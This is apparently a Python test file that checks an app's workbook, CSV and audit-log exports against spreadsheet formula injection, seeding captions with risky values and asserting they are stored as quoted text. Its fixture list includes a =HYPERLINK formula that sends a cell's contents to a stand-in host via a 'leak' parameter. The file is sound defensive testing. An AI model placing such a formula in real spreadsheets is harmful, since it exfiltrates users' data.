"""Every spreadsheet the app writes keeps user text as text: read each export back and look for
formulas (issue #19, point 1)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from content import audit, costs
from content.audit import log as audit_log
from content.audit.log import AuditFilter
from content.costs import views as cost_views
from content.infra import exports
from content.monev import compute
from content.monev.report import csv_text, posts_table, workbook_bytes
from tests.monev_data import PERIOD, _published, build_dataset, monev_config
from tests.world import World

RISKY = ['=HYPERLINK("https://x.test/?leak="&B2,"klik")', "+62 21", "-1", "@SUM(A1)", "\tx", "\rx"]


def _with_risky_captions(world: World) -> World:
    build_dataset(world)
    for day, caption in enumerate(RISKY, start=1):
        _published(world, world.dinkes_id, world.x_account, day, caption=caption, metrics={})
    world.session.flush()
    return world


def _cells(data: bytes) -> list:  # type: ignore[type-arg]
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_formula_caption_comes_out_of_the_monev_workbook_as_text(world: World) -> None:
    _with_risky_captions(world)
    report = compute(world.session, world.analyst, PERIOD, monev_config())
    cells = _cells(workbook_bytes(report))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    captions = {c.value for c in cells if isinstance(c.value, str)}
    # The text is kept exactly as written (the quote prefix only tells Excel to keep it text).
    assert f"{RISKY[0]} hari ke-1" in captions
    leak = next(c for c in cells if c.value == f"{RISKY[0]} hari ke-1")
    assert leak.data_type == "s" and leak.quotePrefix


def test_the_monev_csv_defuses_every_formula_start(world: World) -> None:
    _with_risky_captions(world)
    report = compute(world.session, world.analyst, PERIOD, monev_config())
    rows = list(csv.reader(io.StringIO(csv_text(posts_table(report)), newline="")))
    captions = [r[3] for r in rows[1:]]
    for risky in RISKY:
        assert f"'{risky} hari ke-" in "\n".join(captions)
    assert not any(c.startswith(exports.FORMULA_START) for r in rows for c in r)


def test_the_spending_workbook_has_no_formula(world: World) -> None:
    _with_risky_captions(world)
    prices = costs.load_prices()
    data = cost_views.spending_workbook(world.session, world.utama, "2026-02", prices)
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)


def test_the_audit_csv_defuses_every_formula_start(world: World) -> None:
    for risky in RISKY:
        audit.record(world.session, world.utama, "test.formula", "post", 1, reason=risky)
    text, count = audit_log.export_csv(
        world.session, world.utama, AuditFilter(action="test.formula")
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert count == len(RISKY)
    assert sorted(r[8] for r in rows[1:]) == sorted("'" + r for r in RISKY)


def test_numbers_stay_numbers_and_bad_control_characters_do_not_break_the_file() -> None:
    data = exports.workbook_bytes(
        [exports.Sheet("Uji", ["a", "b", "c"], [[-5, Decimal("1.5"), "bel\x07 =1"]])]
    )
    row = next(load_workbook(io.BytesIO(data))["Uji"].iter_rows(min_row=2))
    assert [c.value for c in row] == [-5, 1.5, "bel =1"]
    assert [c.data_type for c in row] == ["n", "n", "s"]
    assert exports.csv_text((["a"], [[-5], ["-5"]])) == "a\r\n-5\r\n'-5\r\n"
